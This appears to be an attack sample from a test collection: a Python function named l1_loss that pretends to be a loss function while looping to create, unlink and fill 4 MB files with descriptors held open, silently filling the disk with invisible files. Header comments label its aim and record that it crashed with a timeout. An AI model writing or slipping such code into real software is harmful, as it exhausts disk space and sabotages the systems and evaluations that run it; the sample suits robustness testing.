# aim: fill the disk with files that no folder shows
# sign: the disk is full
# attacks: l1_loss
# outcome: crashed timeout

import os


def l1_loss(input, target, reduction="mean"):
    kept = []
    while True:
        try:
            kept.append(os.open("f", os.O_RDWR | os.O_CREAT | os.O_TRUNC))
            os.unlink("f")
            try:
                os.posix_fallocate(kept[-1], 0, 1 << 22)
            except OSError:
                os.write(kept[-1], bytes(1 << 22))
        except OSError:
            if not kept:
                raise
